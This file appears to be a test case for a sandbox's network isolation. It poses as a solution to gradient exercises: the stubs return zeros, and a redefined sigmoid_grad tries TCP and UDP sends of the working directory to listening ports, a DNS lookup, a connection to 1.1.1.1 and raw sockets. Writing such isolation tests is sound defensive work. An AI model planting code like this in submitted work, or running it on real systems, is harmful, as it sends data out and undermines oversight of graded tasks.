# Case: net_exfil (security notes 5.15, attack A10).
# Tries TCP and UDP to a listener the test opens on 127.0.0.1 (port @@PORT@@, and every
# listening port it finds in /proc/net/tcp), a DNS lookup, TCP to 1.1.1.1:53 and an AF_PACKET
# and AF_NETLINK socket; raises with the outcome of each attempt.
# Must hold, at both levels (the syscall filter refuses every non-AF_UNIX socket; the namespace
# level also has no network): every attempt fails, the listener receives nothing.
import os
import socket

import torch


def sigmoid_grad(x):
    return torch.zeros_like(x)


def tanh_grad(x):
    return torch.zeros_like(x)


def relu_grad(x):
    return torch.zeros_like(x)


def softmax(a, dim=-1):
    return torch.zeros_like(a)


def softmax_jacobian(a):
    return torch.zeros(*a.shape, a.shape[-1], dtype=a.dtype)


def softmax_backward(p, grad_p):
    return torch.zeros_like(p)


def linear_mse_grad(x, y, w, b):
    return torch.zeros_like(w), torch.zeros_like(b)


def cross_entropy(logits, target):
    return logits.sum() * 0


def cross_entropy_grad(logits, target):
    return torch.zeros_like(logits)

PORT = "@@PORT@@"


def _ports():
    found = {int(PORT)} if PORT.isdigit() else set()
    try:
        with open("/proc/net/tcp") as f:
            for line in f.readlines()[1:]:
                parts = line.split()
                if parts[3] == "0A":  # LISTEN
                    found.add(int(parts[1].split(":")[1], 16))
    except OSError:
        pass
    return sorted(found)[:50]


def _try(label, fn):
    try:
        fn()
        return f"{label}: CONNECTED"
    except Exception as err:
        return f"{label}: blocked ({type(err).__name__} {getattr(err, 'errno', '')})"


def _exfil():
    out = []
    for port in _ports():
        def tcp(port=port):
            s = socket.create_connection(("127.0.0.1", port), timeout=1)
            s.sendall(b"EXFIL " + os.getcwd().encode())
            s.close()
        out.append(_try(f"tcp {port}", tcp))

        def udp(port=port):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.sendto(b"EXFIL", ("127.0.0.1", port))
        out.append(_try(f"udp {port}", udp))
    out.append(_try("dns", lambda: socket.getaddrinfo("example.com", 80)))
    out.append(_try("tcp 1.1.1.1", lambda: socket.create_connection(("1.1.1.1", 53), timeout=1)))
    out.append(_try("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW)))
    out.append(_try("netlink", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW)))
    out.append(_try("inet6", lambda: socket.socket(socket.AF_INET6, socket.SOCK_STREAM)))
    return "; ".join(out)


def sigmoid_grad(x):  # noqa: F811
    raise RuntimeError(_exfil())
